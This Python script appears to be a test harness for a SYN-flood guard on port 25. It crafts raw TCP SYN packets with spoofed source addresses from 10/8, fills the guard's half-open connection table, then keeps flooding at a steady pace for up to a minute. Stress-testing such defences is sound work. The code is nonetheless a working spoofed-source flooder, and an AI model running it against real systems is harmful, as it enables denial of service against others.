"""SYNs to port 25 from addresses in 10/8 that belong to nobody, each from another one.

    syns.py ADDRESS

First as many as fill the guard's table of half-open connections; then it says "flooding", goes on more slowly until it is
told to end (SIGTERM), a minute at most, and prints how many it has sent since. Evenly: a burst would make who comes behind it wait,
and what is measured is not that.
"""

import json
import signal
import socket
import struct
import sys
import time

# Of the guard's limits, EMBRYONIC_MAX is 65,536.
FILL, FILL_PACE = 72_000, 40_000
PACE = 20_000
# None comes twice before the guard has forgotten it.
SOURCES = 1 << 17
BURST_MAX = 50
SECONDS_MAX = 60


def ones_sum(octets):
    """The sum of an Internet checksum."""
    return sum(struct.unpack(f">{len(octets) // 2}H", octets))


def syns(to):
    """One from each source."""
    to = socket.inet_aton(to)
    head = struct.pack(">BBHHHBBH", 0x45, 0, 40, 0, 0x4000, 64, 6, 0)
    ports = struct.pack(">HH", 40_000, 25)
    tail = struct.pack(">IBBH", 0, 5 << 4, 2, 64_240)
    fixed = ones_sum(to + struct.pack(">HH", 6, 20) + ports + tail)
    made = []
    for number in range(SOURCES):
        # An odd factor gives each number an address, and a sequence number, of its own.
        source, seq = 10 << 24 | number * 0x9E3779B1 & 0xFFFFFF, number * 0x9E3779B1 & 0xFFFFFFFF
        total = fixed + (source >> 16) + (source & 0xFFFF) + (seq >> 16) + (seq & 0xFFFF)
        total = (total & 0xFFFF) + (total >> 16)
        total = (total & 0xFFFF) + (total >> 16)
        made.append(head + struct.pack(">I", source) + to + ports + struct.pack(">I", seq) + tail
                    + struct.pack(">HH", ~total & 0xFFFF, 0))
    return made


class Flood:
    """The sender."""

    def __init__(self, address):
        self.packets, self.to = syns(address), (address, 0)
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.sent = 0
        self.is_over = False

    def go(self, pace, most):
        """So many at that pace. Who could not keep it does not make up for it."""
        began, due, sent = time.monotonic(), 0.0, 0
        while sent < most and not self.is_over:
            now = time.monotonic()
            due = min(due + (now - began) * pace, BURST_MAX)
            began = now
            while due >= 1 and sent < most:
                self.socket.sendto(self.packets[(self.sent + sent) % SOURCES], self.to)
                due -= 1
                sent += 1
            time.sleep(0.00005)
        self.sent += sent
        return sent

    def end(self, *_):
        """It is enough."""
        self.is_over = True


flood = Flood(sys.argv[1])
signal.signal(signal.SIGTERM, flood.end)
flood.go(FILL_PACE, FILL)
print("flooding", file=sys.stderr, flush=True)
print(json.dumps({"syns": flood.go(PACE, PACE * SECONDS_MAX)}))
